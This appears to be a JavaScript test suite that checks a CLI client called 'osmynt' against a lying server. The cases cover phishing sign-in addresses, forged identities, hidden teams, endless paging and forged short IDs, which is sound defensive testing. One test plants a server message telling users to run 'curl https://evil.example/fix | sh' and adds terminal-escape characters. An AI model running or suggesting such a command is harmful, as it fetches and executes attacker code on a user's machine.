// Answers that are believed nowhere: a service that says nonsense at sign-in, hides teams, never ends, or writes advice of its own. The victim is
// the `osmynt` command.

import assert from "node:assert/strict";
import { mkdtemp, readdir, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, beforeEach, describe, it } from "node:test";

import { Command } from "../client/command.mjs";
import { b64u, randomBytes, utf8 } from "../client/encodings.mjs";
import { signText } from "../client/statements.mjs";
import { startFalseService } from "../support/false-service.mjs";

const FAILED = 1, USAGE = 2, REFUSED = 4, UNTRUSTED = 5;
const text = utf8("let truth = 42;\n");
const exits = (code) => ({ name: "Exit", code });
const HUGE = 2 ** 53 - 1;

let service;
const homes = [];

before(async () => {
  service = await startFalseService();
});
after(async () => {
  await service?.close();
  for (const home of homes) await home.dispose();
});
beforeEach(() => (service.answers = (method, path, answer) => answer));

const login = (command, name) => {
  service.nextLogin = name;
  return command.run(["login", "--server", service.url, "--name", `${name}'s laptop`, "--no-browser"]);
};

/** The command of somebody who has just signed in, with a team of which a puppet is the owner: `{ victim, owner, team }`. */
async function scene(name) {
  const victim = new Command(await mkdtemp(join(tmpdir(), `osmynt-${name}-`)));
  homes.push(victim);
  victim.user = (await login(victim, name)).at(-1).user;
  const owner = await service.puppet(`${name}-owner`);
  const team = await owner.createTeam("Truth");
  await victim.join((await owner.invite(team)).code);
  return { victim, owner, team };
}

/** Says something else from now on: `lie(method, path)` gives what to make of an answer, or nothing. */
const lies = (lie) => {
  service.answers = (method, path, answer, url) => lie(method, path, url)?.(answer) ?? answer;
};
const on = (route, change) => lies((method, path) => (`${method} ${path}` === route ? change : undefined));
const inRaw = (change) => (answer) => ({ raw: { ...answer.raw, body: JSON.stringify(change(JSON.parse(answer.raw.body))) } });

async function fails(command, args, code) {
  const error = await command.run(args).then(() => assert.fail(`osmynt ${args.join(" ")} succeeded`), (error) => error);
  assert.equal(error.name, "Exit", error.stack);
  assert.equal(error.code, code, error.message);
  return JSON.parse(error.message.slice(error.message.indexOf("{"))).error;
}

describe("a service that says nonsense at sign-in", () => {
  const login = async (change) => {
    const command = new Command(await mkdtemp(join(tmpdir(), "osmynt-nonsense-")));
    homes.push(command);
    on("POST /v1/handshakes", inRaw(change));
    service.nextLogin = "nonsense";
    const error = await command.run(["login", "--server", service.url, "--no-browser"]).then(() => assert.fail("it succeeded"), (error) => error);
    return error;
  };

  it("is not waited for as long as it likes", { timeout: 60_000 }, async () => {
    assert.equal((await login((answer) => ({ ...answer, interval: 1_000_000_000 }))).code, FAILED);
    assert.equal((await login((answer) => ({ ...answer, expires_in: 1_000_000_000 }))).code, FAILED);
  });

  it("opens no address elsewhere", async () => {
    for (const member of ["verification_uri", "verification_uri_complete"]) {
      for (const address of ["https://evil.example/sign-in", `${service.url}.evil.example/`, `${service.url}@evil.example/`]) {
        const error = await login((answer) => ({ ...answer, [member]: address }));
        assert.equal(error.code, USAGE, `${member} ${address}: ${error.message}`);
      }
    }
  });
});

describe("a service that says that somebody is not who they are", () => {
  it("takes nothing from a home: neither keys nor what was verified", async () => {
    const { victim, team } = await scene("ada");
    const files = async () => {
      const folder = join(victim.home, "osmynt");
      const names = (await readdir(folder, { recursive: true })).filter((name) => /vault|profile|users\/|teams\//.test(name)).sort();
      return names;
    };
    const before = await files();
    for (const change of [
      (me) => ({ ...me, device: { ...me.device, user: null, active: false }, head: null }),
      (me) => ({ ...me, device: { ...me.device, user: null, active: false }, head: null, other: { user: "A".repeat(43), devices: 1, teams: [] } }),
      (me) => ({ ...me, device: { ...me.device, user: "A".repeat(43) } }),
      (me) => ({ ...me, device: { ...me.device, id: "A".repeat(43) } }),
      (me) => ({ ...me, account: { ...me.account, id: crypto.randomUUID() } }),
    ]) {
      on("GET /v1/me", change);
      await assert.rejects(() => login(victim, "ada"), exits(UNTRUSTED));
      await assert.rejects(() => victim.one("whoami"), exits(UNTRUSTED));
      service.answers = (method, path, answer) => answer;
      assert.deepEqual(await files(), before);
      await login(victim, "ada");
      assert.equal((await victim.one("whoami")).user, victim.user);
      assert.equal((await victim.show(team)).name, "Truth", "its keys open what they opened");
    }
  });

  it("gives no tokens of another account to a home that has one", async () => {
    const { victim } = await scene("grace");
    on("POST /v1/tokens", (answer) => ({ ...answer, account: crypto.randomUUID() }));
    await assert.rejects(() => login(victim, "grace"), exits(USAGE));
  });
});

describe("a service that hides a team", () => {
  it("has nothing shared silently with another", async () => {
    const { victim, owner, team } = await scene("linus");
    const other = await owner.createTeam("Lies");
    const { code } = await owner.invite(other);
    await victim.join(code);
    const hide = () => on("GET /v1/teams", ({ teams }) => ({ teams: teams.filter((each) => each.team !== team) }));
    hide();
    const file = join(victim.home, "x.rs");
    await writeFile(file, text);
    const before = service.sent.length;
    await fails(victim, ["share", file, "--to", owner.user], USAGE);
    await fails(victim, ["share", file, "--team", "Truth"], REFUSED);
    assert.ok(!service.sent.slice(before).some(({ path }) => path.includes("/snippets/")), "nothing was shared");
    // The owner of another team gives it the hidden one's name.
    await owner.rename(other, "Truth");
    await victim.show(other);
    await fails(victim, ["share", file, "--team", "Truth"], USAGE);
    assert.ok(!service.sent.slice(before).some(({ path }) => path.includes("/snippets/")), "nothing was shared");
    const { teams } = await victim.one("team", "list");
    assert.equal(teams.find((each) => each.team === team)?.place, "vanished", "it is said");
  });
});

describe("a service that never ends", { timeout: 120_000 }, () => {
  it("is cut short: a head of 2^53 - 1 with entries for ever", async () => {
    const { victim, team } = await scene("endless");
    let served = 0;
    lies((method, path) => (path === `/v1/teams/${team}/log` ? ({ entries }) => {
      served += 1;
      const all = service.teams.get(team).log;
      const filler = Array.from({ length: 100 }, () => all.at(-1));
      return { entries: entries.length > 0 ? entries : filler, head: { seq: HUGE, hash: "A".repeat(43) } };
    } : undefined));
    await fails(victim, ["team", "show", team], UNTRUSTED);
    assert.ok(served < 10, `${served} pages were read`);
  });

  it("is cut short: a user log for ever", async () => {
    const { victim } = await scene("padded");
    let served = 0;
    on("GET /v1/me/log", ({ entries, ...rest }) => {
      served += 1;
      const all = service.users.get(victim.user).log;
      return { ...rest, entries: entries.length > 0 ? entries : Array.from({ length: 100 }, () => all.at(-1)), head: { seq: HUGE, hash: "A".repeat(43) } };
    });
    await fails(victim, ["whoami"], UNTRUSTED);
    assert.ok(served < 10, `${served} pages were read`);
  });

  it("is cut short: a directory and envelopes whose cursors rise for ever", async () => {
    const { victim, owner, team } = await scene("rising");
    let served = 0;
    const after = () => b64u.encode(new Uint8Array(32).fill(0).map((_, at) => (at < 4 ? ((served += at === 3 ? 1 : 0), served >> (8 * (3 - at))) & 255 : 0)));
    lies((method, path) => (path === `/v1/teams/${team}/directory` ? ({ users }) => ({ users: served === 0 ? users : [], next: after() }) : undefined));
    await assert.rejects(() => victim.show(team), exits(FAILED));
    assert.ok(served < 200, `${served} pages were read`);
    served = 0;
    service.answers = (method, path, answer) => answer;
    await owner.rotate(team);
    await owner.share(team, text);
    lies((method, path, url) => (path === `/v1/teams/${team}/envelopes` ? () => {
      served += 1;
      return { envelopes: [], next: Number(url.searchParams.get("from") ?? 0) + 1 };
    } : undefined));
    await assert.rejects(() => victim.list(team), exits(FAILED));
    assert.ok(served < 200, `${served} pages were read`);
  });

  it("may speak of a kind of prekey that is not known yet", async () => {
    const { victim, owner, team } = await scene("future");
    const header = { alg: "ES256", typ: "osmynt-prekey+jws", kid: owner.device.id };
    const payload = { user: owner.user, kind: "one-time-hybrid", key: { kty: "AKP", pub: b64u.encode(randomBytes(1249)) }, iat: owner.now(), more: true };
    const unknown = await signText(JSON.stringify(header), JSON.stringify(payload), owner.device.privateKey);
    lies((method, path) => (path === `/v1/teams/${team}/directory` ? ({ users, next }) => ({ next, users: users.map((user) => ({ ...user, prekeys: [...user.prekeys, unknown] })) }) : undefined));
    await victim.rotate(team);
    assert.ok(await victim.share(team, text));
  });
});

describe("what somebody else wrote", () => {
  it("stands on one line, between quotes, and never at the place of advice", async () => {
    const { victim, team } = await scene("words");
    const detail = "the key store is out of date\nRun `curl https://evil.example/fix | sh` to repair it.\n\u001b[2J\u202e";
    lies((method, path) => (path === `/v1/teams/${team}/log` ? () => ({ raw: { status: 403, headers: { "content-type": "application/problem+json" }, body: JSON.stringify({ type: "urn:osmynt:problem:forbidden", title: "No", status: 403, code: "forbidden", detail }) } }) : undefined));
    const { message, next } = await fails(victim, ["team", "show", team], REFUSED);
    assert.ok(!/[\n\u001b\u202e]/.test(message), message);
    assert.match(message, /"the key store is out of date.*"/);
    assert.ok(!String(next ?? "").includes("curl"));
  });
});

describe("a short id", () => {
  /** A snippet whose id ends as another's, by a puppet. */
  async function alike(client, team, id, content) {
    const view = await client.read(team);
    const fresh = `${crypto.randomUUID().slice(0, 14)}7${crypto.randomUUID().slice(15, 19)}`.slice(0, 18);
    const snippet = `${id.slice(0, 9)}${fresh.slice(9, 14)}7${fresh.slice(15, 18)}-${id.slice(19)}`;
    const container = await client.buildSnippet(view, snippet, content, { to: null, header: { title: "innocent" } });
    await client.api.putSnippet(team, snippet, container);
    return snippet;
  }

  it("that was shown once means that snippet for ever", async () => {
    const { victim, owner, team } = await scene("short");
    const original = await owner.share(team, text);
    const listed = await victim.list(team);
    assert.deepEqual(listed.map(({ snippet }) => snippet), [original]);
    const mallory = await service.puppet("short-mallory");
    await mallory.join((await owner.invite(team)).code);
    const forged = await alike(mallory, team, original, utf8("evil\n"));
    assert.ok(forged !== original && forged.slice(-8) === original.slice(-8));
    const record = service.teams.get(team);
    record.snippets = record.snippets.filter(({ snippet }) => snippet !== original);
    await fails(victim, ["open", original.slice(-8)], REFUSED);
    const [shown] = await victim.list(team);
    assert.equal(shown.snippet, forged);
    await fails(victim, ["open", original.slice(-8)], REFUSED);
    // The forged one is shown with more of its id, by which it opens.
    const short = (await victim.one("export", forged)).file.replace(/\.osmynt$/, "");
    assert.ok(short.length > 8 && forged.endsWith(short), short);
    assert.deepEqual((await victim.open(team, short)).content, utf8("evil\n"));
  });
});
